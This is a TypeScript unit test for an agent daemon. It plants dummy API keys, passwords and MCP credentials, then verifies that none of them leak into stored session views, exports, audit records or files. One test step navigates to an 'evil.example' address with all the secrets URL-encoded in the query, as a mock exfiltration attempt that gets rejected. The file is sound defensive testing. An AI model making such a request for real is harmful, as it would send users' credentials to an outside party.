/** No secret that the daemon knows of is kept of a tool call, a question or a fault, whether or not its agent runs. */
import { mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect } from 'vitest';
import type { SessionSummary } from '#protocol/api.ts';
import { CompanionError } from '#protocol/errors.ts';
import { CallId, type SessionId } from '#protocol/ids.ts';
import type { SessionView } from '#protocol/view.ts';
import { printableJson } from '#display/plain-text.ts';
import { toMarkdown } from '#protocol/session-markdown.ts';
import { ToolCaller } from '#companion/mcp/caller.ts';
import { admission, comer, createAdmissions, createSiteBook } from '#test/fixtures/admission.ts';
import { sampleSession } from '#test/fixtures/samples.ts';
import { createBridgeDouble, createGrantsDouble, noFiles } from '#test/unit/server/room-doubles.ts';
import { type Stage, test } from '#test/unit/sessions/stage.ts';

const PLANTED = {
  'a stored key': 'sk-ant-api03-stored-key-value',
  'a stored key of six characters': 's3cr3t',
  'a stored key of another agent': 'key-of-another-agent',
  'a variable of the agent': 'pl4nted by hand',
  "a password in an address of the agent's settings": 'p4ssw0rd',
  'a variable of the login shell': 'login-shell-5',
  'a variable in .mcp.json': 'mcp-env-12345',
  'a header in .mcp.json': 'mcp-bearer-6789',
  'an argument in .mcp.json': 'arg-secret-77',
  'a password in an address in .mcp.json': 'addr-p4ss',
} as const;

const SAID = Object.values(PLANTED)
  .map((secret) => `It is ${secret}.`)
  .join(' ');

const plant = async ({ store, home }: Stage): Promise<void> => {
  await store.secrets.set('fake', 'apiKey', PLANTED['a stored key']);
  await store.secrets.set('fake', 'other', PLANTED['a stored key of six characters']);
  await store.secrets.set('steerable', 'apiKey', PLANTED['a stored key of another agent']);
  const env = {
    MY_SETTING: PLANTED['a variable of the agent'],
    SERVICE_URL: `https://me:${PLANTED["a password in an address of the agent's settings"]}@host.example/x`,
  };
  store.settings.change({ engines: { byName: { fake: { env } }, custom: [] }, allowedRoots: [home] });
  const rootPath = path.join(home, 'project');
  mkdirSync(rootPath);
  const server = {
    command: 'npx',
    args: ['--api-key', PLANTED['an argument in .mcp.json'], `postgres://u:${PLANTED['a password in an address in .mcp.json']}@h/db`],
    env: { ANY_NAME: PLANTED['a variable in .mcp.json'] },
    headers: { Authorization: `Bearer ${PLANTED['a header in .mcp.json']}` },
  };
  writeFileSync(path.join(rootPath, '.mcp.json'), JSON.stringify({ mcpServers: { one: server } }));
  const at = new Date().toISOString();
  store.projects.save({ id: 'p' as never, name: 'P', rootPath, createdAt: at, updatedAt: at });
};

/** The caller of a daemon whose browser repeats all secrets in its errors. */
const open = ({ sessions, store, log }: Stage) => {
  const bridge = createBridgeDouble();
  bridge.onCall(() => Promise.reject(new CompanionError('TOOL_FAILED', `The page said: ${SAID}`)));
  const { admissions } = createAdmissions({ editor: admission('editor', { kind: 'client', name: 'Editor' }) });
  const caller = new ToolCaller({
    bridge,
    sessions,
    grants: createGrantsDouble(),
    sites: createSiteBook(),
    admissions,
    files: noFiles,
    port: () => 1,
    log,
    audit: store.audit,
  });
  let count = 0;
  return (sessionId: SessionId, name: string, args: Record<string, unknown>) => {
    count += 1;
    return caller.call({
      sessionId,
      callId: CallId.parse(`call_${count}`),
      name,
      args,
      signal: new AbortController().signal,
      onProgress: () => {},
      comer: () => comer('editor', { kind: 'client', name: 'Editor' }),
    });
  };
};

/** A call that fails, one that is asked for and refused, one to an address with all of them, and a tool nobody knows. */
const callAll = async (stage: Stage, sessionId: SessionId): Promise<void> => {
  const call = open(stage);
  await call(sessionId, 'browser_snapshot', { text: SAID });
  const refused = call(sessionId, 'browser_click', { ref: 'e7', text: SAID });
  await stage.until(sessionId, ({ requests }) => requests.length > 0);
  await stage.answer(sessionId, 'reject');
  await refused;
  const travels = call(sessionId, 'browser_navigate', { url: `https://evil.example/?q=${encodeURIComponent(SAID)}` });
  await stage.until(sessionId, ({ requests }) => requests.length > 0);
  await stage.answer(sessionId, 'reject');
  await travels;
  await call(sessionId, SAID.slice(0, 90), {});
  const withdrawn = new AbortController();
  const options = [{ optionId: 'once', label: 'Allow', kind: 'allow_once' as const }];
  const card = stage.sessions.ask(sessionId, { kind: 'consent', title: SAID, detail: SAID, where: SAID, options }, withdrawn.signal);
  withdrawn.abort();
  await card;
  stage.log.error('planted', { error: new Error(SAID, { cause: { text: SAID } }), address: 'https://me:n0body-kn0ws@host.example/' });
  await new Promise((resolve) => void setImmediate(resolve));
};

/** Everything that is kept or shown, by where it is. */
const found = (stage: Stage, sessions: readonly SessionId[]): Record<string, string> => {
  const views = sessions.map((sessionId) => stage.sessions.view(sessionId));
  return {
    views: JSON.stringify(views),
    json: views.map(({ items }) => printableJson({ items })).join('\n'),
    markdown: views.map((view) => toMarkdown(summaryOf(view), view.items)).join('\n'),
    events: JSON.stringify(sessions.map((sessionId) => stage.events(sessionId))),
    audit: JSON.stringify(stage.store.audit.report(1000)),
    ...Object.fromEntries(
      readdirSync(stage.paths.root, { recursive: true })
        .map((name) => path.join(stage.paths.root, String(name)))
        .filter((file) => statSync(file).isFile() && !/settings\.json|vault\.json/.test(file))
        .map((file) => [path.relative(stage.paths.root, file), readFileSync(file, 'latin1')]),
    ),
  };
};

const summaryOf = ({ sessionId, name, engine }: SessionView): SessionSummary => sampleSession({ id: sessionId, name, engineName: engine });

/** Where which secret was found. */
const leaks = (places: Record<string, string>): string[] =>
  Object.entries(places).flatMap(([place, text]) =>
    [...Object.entries(PLANTED), ['a password that nobody knows', 'n0body-kn0ws']]
      .filter(([, secret]) => text.includes(String(secret)) || text.includes(encodeURIComponent(String(secret))))
      .map(([kind]) => `${kind} in ${place}`),
  );

describe('ten planted secrets', () => {
  test('are in nothing that is kept of calls, cards and faults, while the agent runs and when none does', async ({ stage }) => {
    await plant(stage);
    const { sessionId } = await stage.sessions.dispatch({ type: 'session.create', projectId: 'p' as never, engine: 'fake' });
    const first = stage.turn(sessionId, 'say hello');
    await stage.until(sessionId, ({ requests }) => requests.some(({ request }) => request.kind === 'trust'));
    await stage.answer(sessionId, 'trust');
    await first;
    const client = (await stage.sessions.dispatch({ type: 'session.create', projectId: null, engine: 'mcp', kind: 'client' })).sessionId;

    await callAll(stage, sessionId);
    await callAll(stage, client);
    expect(leaks(found(stage, [sessionId, client])), 'with a run').toEqual([]);

    await stage.restart();
    await callAll(stage, sessionId);
    await callAll(stage, client);

    expect(leaks(found(stage, [sessionId, client])), 'without a run').toEqual([]);
    expect(stage.store.audit.report(0).fault).toBeNull();
    expect(readFileSync(stage.paths.daemonLog, 'utf8')).toContain('The page said: It is [secret].');
  });
});
